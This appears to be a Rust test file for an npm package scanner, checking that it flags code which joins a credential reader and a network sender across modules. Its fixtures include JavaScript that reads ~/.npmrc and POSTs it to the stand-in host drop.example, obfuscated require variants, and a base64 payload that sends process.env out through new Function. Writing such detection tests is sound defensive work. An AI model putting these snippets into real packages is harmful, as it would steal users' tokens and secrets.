//! Files that only join others: quiet themselves, and the place where a theft is put together.
use crate::common::{clean, flagged, package, run};
use cleanbill_js::analysis::Outcome;
use cleanbill_model::Level::Block;

const READ: (&str, &str) = (
    "lib/read.js",
    "const fs=require('fs'),os=require('os'),path=require('path');exports.read=()=>fs.promises.readFile(path.join(os.homedir(),'.npmrc'),'utf8');",
);
const SEND: (&str, &str) = (
    "lib/send.js",
    "exports.send=(data)=>fetch('https://drop.example/in',{method:'POST',body:Buffer.from(data).toString('base64')});",
);
const MANIFEST: (&str, &str) = (
    "package.json",
    r##"{"name":"case","version":"1.0.0","main":"index.js","imports":{"#read":{"browser":"./none.js","default":"./lib/read.js"},"#lib/*":"./lib/*.js"},"exports":{".":"./index.js","./read":"./lib/read.js","./send":"./lib/send.js"}}"##,
);

fn joined(index: &str) -> cleanbill_js::Analysis {
    run(package(&[MANIFEST, ("index.js", index), READ, SEND]))
}

#[test]
fn a_quiet_file_that_joins_reader_and_sender_is_followed() {
    for index in [
        "const {read}=require('./lib/read');const {send}=require('./lib/send');read().then((text)=>send(text));",
        "const a=require(\n  /* the reader */ './lib/read'\n);const b=require('./lib/send.js');a.read().then(b.send);",
        "import {read} from'./lib/read.js';import * as out from\n'./lib/send.js';read().then(out.send);",
        "const at='./lib/';const a=require(at+'read');const b=require(at+'send');a.read().then(b.send);",
        "const a=require('./li'+'b/read');const b=require('./lib/se'+'nd');a.read().then(b.send);",
        "const r=require;const a=r('./lib/read'),b=r('./lib/send');a.read().then(b.send);",
        "const a=require('#read'),b=require('#lib/send');a.read().then(b.send);",
        "const a=require('case/read'),b=require('case/send');a.read().then(b.send);",
        "Promise.all([import('./lib/read.js'),import('./lib/send.js')]).then(([a,b])=>a.read().then(b.send));",
    ] {
        flagged(&joined(index), "FLO-01", Block);
    }
}

#[test]
fn the_joint_may_be_far_from_both() {
    let a = run(package(&[
        MANIFEST,
        ("index.js", "module.exports=require('./a');"),
        ("a.js", "export * from './b.js';"),
        (
            "b.js",
            "import {pull} from './c.js';import {push} from './d.js';export const start=async()=>push(await pull());start();",
        ),
        ("c.js", "export {read as pull} from './lib/read.js';"),
        (
            "d.js",
            "import {send} from './lib/send.js';export class Out{constructor(f){this.f=f}go(v){return this.f(v)}}export const push=(v)=>new Out(send).go(v);",
        ),
        READ,
        SEND,
    ]));
    flagged(&a, "FLO-01", Block);
}

#[test]
fn data_in_one_quiet_file_and_the_loader_in_another_meet() {
    use base64::Engine;
    let theft = "require('https').get('https://drop.example/?'+JSON.stringify(process.env))";
    let data = base64::engine::general_purpose::STANDARD.encode(theft);
    let a = run(package(&[
        MANIFEST,
        ("index.js", "require('./table').each(require('./list').items);"),
        ("list.js", &format!("exports.items=['{data}'];")),
        (
            "table.js",
            "exports.each=(list)=>{for(const one of list){new Function('require',atob(one))(require)}};",
        ),
    ]));
    flagged(&a, "FLO-01", Block);
}

#[test]
fn a_joint_of_honest_modules_is_clean() {
    clean(&run(package(&[
        MANIFEST,
        (
            "index.js",
            "const {load}=require('./lib/load');const {ask}=require('./lib/ask');exports.go=async(file)=>ask(await load(file));",
        ),
        (
            "lib/load.js",
            "const fs=require('fs');exports.load=(file)=>fs.promises.readFile(file,'utf8');",
        ),
        (
            "lib/ask.js",
            "exports.ask=(text)=>fetch('https://api.case.example/v1',{method:'POST',body:text});",
        ),
    ])));
}

#[test]
fn what_imports_no_sink_stays_quiet() {
    let a = run(package(&[
        MANIFEST,
        ("index.js", "exports.pad=require('./pad');"),
        ("pad.js", "module.exports=(t,n)=>String(t).padStart(n);"),
    ]));
    assert!(
        a.files
            .iter()
            .filter(|f| f.kind.is_code())
            .all(|f| f.outcome == Outcome::Quiet)
    );
}
